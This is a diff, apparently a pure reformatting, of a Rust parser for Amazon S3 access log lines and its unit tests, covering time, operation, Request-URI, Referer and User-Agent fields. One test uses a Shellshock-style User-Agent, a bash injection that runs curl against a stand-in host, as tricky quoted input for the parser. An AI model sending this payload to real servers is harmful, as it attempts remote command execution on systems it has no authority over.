@@ -22,10 +22,10 @@
 use std::fmt;
 
 use memchr::{memchr, memchr_iter, memrchr};
-use nom::{IResult, Parser};
 use nom::bytes::complete::{tag, take};
 use nom::combinator::map_opt;
 use nom::sequence::preceded;
+use nom::{IResult, Parser};
 
 use super::schema::{KNOWN_FIELDS, MIN_FIELDS};
 
@@ -38,7 +38,10 @@ pub struct Span {
 
 impl Span {
     fn new(start: usize, end: usize) -> Self {
-        Span { start: start as u32, end: end as u32 }
+        Span {
+            start: start as u32,
+            end: end as u32,
+        }
     }
 
     pub fn of<'a>(&self, line: &'a [u8]) -> &'a [u8] {
@@ -48,7 +51,8 @@ impl Span {
     /// The span's text. Spans start and end next to ASCII delimiters, so on a `str` line they
     /// always fall on character boundaries; `get` keeps that an invariant rather than a panic.
     pub fn str<'a>(&self, line: &'a str) -> &'a str {
-        line.get(self.start as usize..self.end as usize).unwrap_or_default()
+        line.get(self.start as usize..self.end as usize)
+            .unwrap_or_default()
     }
 }
 
@@ -100,14 +104,27 @@ impl fmt::Display for Problem {
                 f,
                 "truncated record: it ends after {last}, but a record has at least {MIN_FIELDS} fields"
             ),
-            Problem::BadTime => f.write_str("third field is not a time like [06/Feb/2019:00:00:38 +0000]"),
+            Problem::BadTime => {
+                f.write_str("third field is not a time like [06/Feb/2019:00:00:38 +0000]")
+            }
             Problem::ImpossibleTime => f.write_str("impossible time (no such date or time of day)"),
-            Problem::NoOperation => f.write_str("no request ID followed by an operation (like REST.GET.OBJECT) after the requester"),
-            Problem::BadRequestUri => f.write_str("Request-URI is neither '-' nor a quoted string followed by an HTTP status"),
+            Problem::NoOperation => f.write_str(
+                "no request ID followed by an operation (like REST.GET.OBJECT) after the requester",
+            ),
+            Problem::BadRequestUri => f.write_str(
+                "Request-URI is neither '-' nor a quoted string followed by an HTTP status",
+            ),
             Problem::BadNumber { field } => write!(f, "{field} is neither a number nor '-'"),
-            Problem::BadQuotedField { field } => write!(f, "{field} is neither '-' nor a quoted string"),
-            Problem::Glued => f.write_str("a second record starts inside this one (two records glued together)"),
-            Problem::ExtraFields => write!(f, "unknown fields after the {KNOWN_FIELDS}th (refused by --strict)"),
+            Problem::BadQuotedField { field } => {
+                write!(f, "{field} is neither '-' nor a quoted string")
+            }
+            Problem::Glued => {
+                f.write_str("a second record starts inside this one (two records glued together)")
+            }
+            Problem::ExtraFields => write!(
+                f,
+                "unknown fields after the {KNOWN_FIELDS}th (refused by --strict)"
+            ),
         }
     }
 }
@@ -137,18 +154,31 @@ type In<'a> = &'a [u8];
 fn digits(n: usize) -> impl Fn(In) -> IResult<In, u32> {
     move |i| {
         map_opt(take(n), |d: In| {
-            d.iter().try_fold(0u32, |acc, b| b.is_ascii_digit().then(|| acc * 10 + u32::from(b - b'0')))
-        }).parse(i)
+            d.iter().try_fold(0u32, |acc, b| {
+                b.is_ascii_digit().then(|| acc * 10 + u32::from(b - b'0'))
+            })
+        })
+        .parse(i)
     }
 }
 
 fn month(i: In) -> IResult<In, u32> {
     map_opt(take(3usize), |m: In| {
-        const NAMES: [&[u8; 3]; 12] =
-            [b"jan", b"feb", b"mar", b"apr", b"may", b"jun", b"jul", b"aug", b"sep", b"oct", b"nov", b"dec"];
-        let lower = [m[0].to_ascii_lowercase(), m[1].to_ascii_lowercase(), m[2].to_ascii_lowercase()];
-        NAMES.iter().position(|n| **n == lower).map(|p| p as u32 + 1)
-    }).parse(i)
+        const NAMES: [&[u8; 3]; 12] = [
+            b"jan", b"feb", b"mar", b"apr", b"may", b"jun", b"jul", b"aug", b"sep", b"oct", b"nov",
+            b"dec",
+        ];
+        let lower = [
+            m[0].to_ascii_lowercase(),
+            m[1].to_ascii_lowercase(),
+            m[2].to_ascii_lowercase(),
+        ];
+        NAMES
+            .iter()
+            .position(|n| **n == lower)
+            .map(|p| p as u32 + 1)
+    })
+    .parse(i)
 }
 
 fn offset_minutes(i: In) -> IResult<In, i32> {
@@ -156,11 +186,15 @@ fn offset_minutes(i: In) -> IResult<In, i32> {
         b'+' => Some(1),
         b'-' => Some(-1),
         _ => None,
-    }).parse(i)?;
+    })
+    .parse(i)?;
     let (i, hh) = digits(2)(i)?;
     let (i, mm) = digits(2)(i)?;
     if mm > 59 {
-        return Err(nom::Err::Error(nom::error::Error::new(i, nom::error::ErrorKind::Verify)));
+        return Err(nom::Err::Error(nom::error::Error::new(
+            i,
+            nom::error::ErrorKind::Verify,
+        )));
     }
     Ok((i, sign * (hh * 60 + mm) as i32))
 }
@@ -185,7 +219,18 @@ fn bracketed_time(i: In) -> IResult<In, RawTime> {
     let (i, second) = preceded(tag(":"), digits(2)).parse(i)?;
     let (i, offset) = preceded(tag(" "), offset_minutes).parse(i)?;
     let (i, _) = tag("]")(i)?;
-    Ok((i, RawTime { day, month, year, hour, minute, second, offset }))
+    Ok((
+        i,
+        RawTime {
+            day,
+            month,
+            year,
+            hour,
+            minute,
+            second,
+            offset,
+        },
+    ))
 }
 
 /// Is `t` the beginning of a time, cut short? (Then the record is truncated, not malformed.)
@@ -214,12 +259,18 @@ fn looks_like_record_time(i: In) -> bool {
 
 /// `REST.GET.OBJECT`, `S3.EXPIRE.OBJECT`, `BATCH.DELETE.OBJECT`, `SOAP.CreateBucket`, …
 fn is_operation(t: In) -> bool {
-    let Some(dot) = memchr(b'.', t) else { return false };
+    let Some(dot) = memchr(b'.', t) else {
+        return false;
+    };
     dot > 0
         && dot + 1 < t.len()
         && t[0].is_ascii_uppercase()
-        && t[..dot].iter().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit())
-        && t[dot + 1..].iter().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-'))
+        && t[..dot]
+            .iter()
+            .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit())
+        && t[dot + 1..]
+            .iter()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-'))
 }
 
 fn is_request_id(t: In) -> bool {
@@ -260,7 +311,16 @@ fn after_request_uri(line: In, q: usize) -> Fits {
             _ => int_field(t).is_ok(),
         };
         if !ok {
-            return if i >= 2 { Fits::Wrong(Problem::BadNumber { field: NAMES[9 + i] }, pos) } else { Fits::No };
+            return if i >= 2 {
+                Fits::Wrong(
+                    Problem::BadNumber {
+                        field: NAMES[9 + i],
+                    },
+                    pos,
+                )
+            } else {
+                Fits::No
+            };
         }
         match next {
             Some(n) => pos = n,
@@ -283,7 +343,9 @@ fn int_field(t: In) -> Result<Option<i64>, ()> {
         return Err(());
     }
     t.iter()
-        .try_fold(0i64, |acc, b| b.is_ascii_digit().then(|| acc * 10 + i64::from(b - b'0')))
+        .try_fold(0i64, |acc, b| {
+            b.is_ascii_digit().then(|| acc * 10 + i64::from(b - b'0'))
+        })
         .map(Some)
         .ok_or(())
 }
@@ -343,7 +405,8 @@ fn required_token(line: In, pos: usize, idx: usize) -> Result<(usize, usize), Re
 }
 
 fn number(line: In, start: usize, end: usize, idx: usize) -> Result<Option<i64>, Refusal> {
-    int_field(&line[start..end]).or_else(|()| refuse(Problem::BadNumber { field: NAMES[idx] }, start))
+    int_field(&line[start..end])
+        .or_else(|()| refuse(Problem::BadNumber { field: NAMES[idx] }, start))
 }
 
 /// Parses `line` (no line ending; trailing blanks allowed) into `rec`.
@@ -388,7 +451,9 @@ pub fn parse_record(line: In, rec: &mut Record, strict: bool) -> Result<(), Refu
     };
     let time_end = line.len() - rest.len();
     rec.fields[2] = Some(Span::new(time_start + 1, time_end - 1));
-    if let Some(at) = memchr_iter(b'[', &line[time_end..]).find(|&i| looks_like_record_time(&line[time_end + i..])) {
+    if let Some(at) = memchr_iter(b'[', &line[time_end..])
+        .find(|&i| looks_like_record_time(&line[time_end + i..]))
+    {
         return refuse(Problem::Glued, time_end + at);
     }
     if time_end == line.len() {
@@ -412,7 +477,12 @@ pub fn parse_record(line: In, rec: &mut Record, strict: bool) -> Result<(), Refu
     for k in 1..=MAX_REQUESTER_TOKENS {
         while count < k + 2 {
             let Some(p) = next else {
-                return refuse(Problem::Truncated { last: if count < 2 { NAMES[4] } else { NAMES[5] } }, line.len());
+                return refuse(
+                    Problem::Truncated {
+                        last: if count < 2 { NAMES[4] } else { NAMES[5] },
+                    },
+                    line.len(),
+                );
             };
             let (end, n) = token(line, p);
             toks[count] = (p, end);
@@ -513,7 +583,12 @@ pub fn parse_record(line: In, rec: &mut Record, strict: bool) -> Result<(), Refu
         rec.fields[idx] = text(line, pos, end);
         pos = next;
     }
-    [rec.bytessent, rec.objectsize, rec.totaltime, rec.turnaroundtime] = numbers;
+    [
+        rec.bytessent,
+        rec.objectsize,
+        rec.totaltime,
+        rec.turnaroundtime,
+    ] = numbers;
 
     // 16, 17: Referer and User-Agent.
     let pos = referer_and_user_agent(line, pos, rec)?;
@@ -540,12 +615,23 @@ pub fn parse_record(line: In, rec: &mut Record, strict: bool) -> Result<(), Refu
 }
 
 /// Fields 16 and 17, starting at `pos`. Returns where field 18 starts, if the line goes on.
-fn referer_and_user_agent(line: In, pos: usize, rec: &mut Record) -> Result<Option<usize>, Refusal> {
-    let bare_dash = |p: usize| line.get(p) == Some(&b'-') && matches!(line.get(p + 1), None | Some(b' '));
+fn referer_and_user_agent(
+    line: In,
+    pos: usize,
+    rec: &mut Record,
+) -> Result<Option<usize>, Refusal> {
+    let bare_dash =
+        |p: usize| line.get(p) == Some(&b'-') && matches!(line.get(p + 1), None | Some(b' '));
     // The User-Agent's closing quote is the line's last quote: the fields after it never
     // contain quotes, while the User-Agent itself may.
     let last_quote = memrchr(b'"', line).unwrap_or(0);
-    let after = |q: usize| if q + 1 < line.len() { Some(q + 2) } else { None };
+    let after = |q: usize| {
+        if q + 1 < line.len() {
+            Some(q + 2)
+        } else {
+            None
+        }
+    };
 
     let ua_start = if bare_dash(pos) {
         rec.fields[15] = None;
@@ -557,15 +643,24 @@ fn referer_and_user_agent(line: In, pos: usize, rec: &mut Record) -> Result<Opti
         let boundary = memchr_iter(b'"', &line[open + 1..])
             .map(|q| q + open + 1)
             .take_while(|&q| q < last_quote)
-            .find(|&q| line.get(q + 1) == Some(&b' ') && line.get(q + 2) == Some(&b'"') && q + 2 <= last_quote);
+            .find(|&q| {
+                line.get(q + 1) == Some(&b' ')
+                    && line.get(q + 2) == Some(&b'"')
+                    && q + 2 <= last_quote
+            });
         match boundary {
             // The User-Agent opens but never closes: the line was cut.
-            Some(q) if q + 2 == last_quote => return refuse(Problem::Truncated { last: NAMES[15] }, line.len()),
+            Some(q) if q + 2 == last_quote => {
+                return refuse(Problem::Truncated { last: NAMES[15] }, line.len());
+            }
             Some(q) => {
                 rec.fields[15] = quoted_text(line, open, q);
                 q + 2
             }
-            None if last_quote > open && bare_dash(last_quote + 2) && line.get(last_quote + 1) == Some(&b' ') => {
+            None if last_quote > open
+                && bare_dash(last_quote + 2)
+                && line.get(last_quote + 1) == Some(&b' ') =>
+            {
                 rec.fields[15] = quoted_text(line, open, last_quote);
                 rec.fields[16] = None;
                 return Ok(after(last_quote + 2));
@@ -616,8 +711,12 @@ fn trim_end(line: In) -> In {
 /// tell log objects from other text, not to validate.
 pub fn looks_like_record(line: In) -> bool {
     let head = &line[..line.len().min(512)];
-    let Some(first) = memchr(b' ', head) else { return false };
-    let Some(second) = memchr(b' ', &head[first + 1..]) else { return false };
+    let Some(first) = memchr(b' ', head) else {
+        return false;
+    };
+    let Some(second) = memchr(b' ', &head[first + 1..]) else {
+        return false;
+    };
     looks_like_record_time(&head[first + second + 2..])
 }
 
@@ -635,7 +734,11 @@ mod tests {
     fn parse(line: &str) -> Result<(Record, Vec<Option<String>>), Refusal> {
         let mut rec = Record::default();
         parse_record(line.as_bytes(), &mut rec, false)?;
-        let fields = rec.fields.iter().map(|s| s.map(|s| s.str(line).to_string())).collect();
+        let fields = rec
+            .fields
+            .iter()
+            .map(|s| s.map(|s| s.str(line).to_string()))
+            .collect();
         Ok((rec, fields))
     }
 
@@ -650,7 +753,10 @@ mod tests {
         assert_eq!(field(&f, 1), Some("amzn-s3-demo-bucket1"));
         assert_eq!(field(&f, 6), Some("REST.GET.VERSIONING"));
         assert_eq!(field(&f, 7), None);
-        assert_eq!(field(&f, 8), Some("GET /amzn-s3-demo-bucket1?versioning HTTP/1.1"));
+        assert_eq!(
+            field(&f, 8),
+            Some("GET /amzn-s3-demo-bucket1?versioning HTTP/1.1")
+        );
         assert_eq!(rec.httpstatus, Some(200));
         assert_eq!(rec.bytessent, Some(113));
         assert_eq!(rec.objectsize, None);
@@ -670,7 +776,10 @@ mod tests {
             "192.0.2.3 arn:aws:iam::cloudfront:user/CloudFront Origin Access Identity E2QWRUHAPOMQZL 3E57",
         );
         let (_, f) = parse(&line).unwrap();
-        assert_eq!(field(&f, 4), Some("arn:aws:iam::cloudfront:user/CloudFront Origin Access Identity E2QWRUHAPOMQZL"));
+        assert_eq!(
+            field(&f, 4),
+            Some("arn:aws:iam::cloudfront:user/CloudFront Origin Access Identity E2QWRUHAPOMQZL")
+        );
         assert_eq!(field(&f, 5), Some("3E57427F3EXAMPLE"));
         assert_eq!(field(&f, 6), Some("REST.GET.VERSIONING"));
     }
@@ -683,7 +792,10 @@ mod tests {
         );
         let (rec, f) = parse(&line).unwrap();
         assert_eq!(field(&f, 15), Some("https://example.com/a page?q=1 2"));
-        assert_eq!(field(&f, 16), Some(r#"() { :;}; /bin/bash -c "curl http://x/y" "z" "#));
+        assert_eq!(
+            field(&f, 16),
+            Some(r#"() { :;}; /bin/bash -c "curl http://x/y" "z" "#)
+        );
         assert_eq!(field(&f, 17), None);
         assert_eq!(field(&f, 19), Some("SigV4"));
         assert_eq!(rec.field_count, 26);
@@ -691,7 +803,10 @@ mod tests {
 
     #[test]
     fn quote_inside_request_uri() {
-        let line = LINE.replace(r#""GET /amzn-s3-demo-bucket1?versioning HTTP/1.1""#, r#""GET /a"b" 200 x HTTP/1.1""#);
+        let line = LINE.replace(
+            r#""GET /amzn-s3-demo-bucket1?versioning HTTP/1.1""#,
+            r#""GET /a"b" 200 x HTTP/1.1""#,
+        );
         let (rec, f) = parse(&line).unwrap();
         assert_eq!(field(&f, 8), Some(r#"GET /a"b" 200 x HTTP/1.1"#));
         assert_eq!(rec.httpstatus, Some(200));
@@ -732,37 +847,88 @@ mod tests {
         assert_eq!(field(&f, 16), Some("Mozilla/5.0"));
         let (rec, f) = parse(&format!("{LINE} us-east-1 ExtraUnknownField another")).unwrap();
         assert_eq!(field(&f, 26), Some("us-east-1"));
-        assert_eq!(rec.extra.map(|s| s.str(&format!("{LINE} us-east-1 ExtraUnknownField another")).to_string()).as_deref(), Some("ExtraUnknownField another"));
+        assert_eq!(
+            rec.extra
+                .map(|s| s
+                    .str(&format!("{LINE} us-east-1 ExtraUnknownField another"))
+                    .to_string())
+                .as_deref(),
+            Some("ExtraUnknownField another")
+        );
         assert_eq!(rec.field_count, 29);
         let mut rec = Record::default();
         let long = format!("{LINE} us-east-1 More");
-        assert_eq!(parse_record(long.as_bytes(), &mut rec, true).unwrap_err().problem, Problem::ExtraFields);
+        assert_eq!(
+            parse_record(long.as_bytes(), &mut rec, true)
+                .unwrap_err()
+                .problem,
+            Problem::ExtraFields
+        );
     }
 
     #[test]
     fn time_offset_is_applied() {
-        let line = LINE.replace("[06/Feb/2019:00:00:38 +0000]", "[09/Feb/2021:14:48:42 +0200]");
+        let line = LINE.replace(
+            "[06/Feb/2019:00:00:38 +0000]",
+            "[09/Feb/2021:14:48:42 +0200]",
+        );
         let (rec, _) = parse(&line).unwrap();
-        assert_eq!(rec.time_ms, crate::format::time::to_epoch_millis(2021, 2, 9, 12, 48, 42, 0, 0).unwrap());
+        assert_eq!(
+            rec.time_ms,
+            crate::format::time::to_epoch_millis(2021, 2, 9, 12, 48, 42, 0, 0).unwrap()
+        );
     }
 
     #[test]
     fn refusals() {
         let p = |l: &str| parse(l).unwrap_err().problem;
         let too_few = &LINE[..LINE.find(" - 113").unwrap()];
-        assert_eq!(p(too_few), Problem::Truncated { last: "HTTP status" });
-        assert_eq!(p(&LINE.replace("06/Feb/2019", "30/Feb/2019")), Problem::ImpossibleTime);
-        assert_eq!(p(&LINE.replace("00:00:38", "25:00:38")), Problem::ImpossibleTime);
-        assert_eq!(p(&LINE.replace("[06/Feb/2019:00:00:38 +0000]", "06/Feb/2019")), Problem::BadTime);
+        assert_eq!(
+            p(too_few),
+            Problem::Truncated {
+                last: "HTTP status"
+            }
+        );
+        assert_eq!(
+            p(&LINE.replace("06/Feb/2019", "30/Feb/2019")),
+            Problem::ImpossibleTime
+        );
+        assert_eq!(
+            p(&LINE.replace("00:00:38", "25:00:38")),
+            Problem::ImpossibleTime
+        );
+        assert_eq!(
+            p(&LINE.replace("[06/Feb/2019:00:00:38 +0000]", "06/Feb/2019")),
+            Problem::BadTime
+        );
         assert_eq!(p(&format!("{LINE}{LINE}")), Problem::Glued);
         assert_eq!(p(&format!("{LINE} {LINE}")), Problem::Glued);
         assert_eq!(p("hello world"), Problem::Truncated { last: "bucket" });
         assert_eq!(p("garbage garbage garbage garbage"), Problem::BadTime);
-        assert_eq!(p(&LINE.replace(" 113 ", " 11x3 ")), Problem::BadNumber { field: "bytes sent" });
-        assert_eq!(p(&LINE.replace("REST.GET.VERSIONING", "get")), Problem::NoOperation);
-        assert_eq!(p(&LINE[..LINE.find("\"S3Console").unwrap() + 5]), Problem::Truncated { last: "Referer" });
-        assert_eq!(p(&LINE.replace("\"-\" \"S3Console/0.4\"", "\"-\" S3Console")), Problem::BadQuotedField { field: "User-Agent" });
-        assert_eq!(p(&LINE[..LINE.find(" \"S3Console").unwrap()]), Problem::Truncated { last: "Referer" });
+        assert_eq!(
+            p(&LINE.replace(" 113 ", " 11x3 ")),
+            Problem::BadNumber {
+                field: "bytes sent"
+            }
+        );
+        assert_eq!(
+            p(&LINE.replace("REST.GET.VERSIONING", "get")),
+            Problem::NoOperation
+        );
+        assert_eq!(
+            p(&LINE[..LINE.find("\"S3Console").unwrap() + 5]),
+            Problem::Truncated { last: "Referer" }
+        );
+        assert_eq!(
+            p(&LINE.replace("\"-\" \"S3Console/0.4\"", "\"-\" S3Console")),
+            Problem::BadQuotedField {
+                field: "User-Agent"
+            }
+        );
+        assert_eq!(
+            p(&LINE[..LINE.find(" \"S3Console").unwrap()]),
+            Problem::Truncated { last: "Referer" }
+        );
     }
 
     #[test]
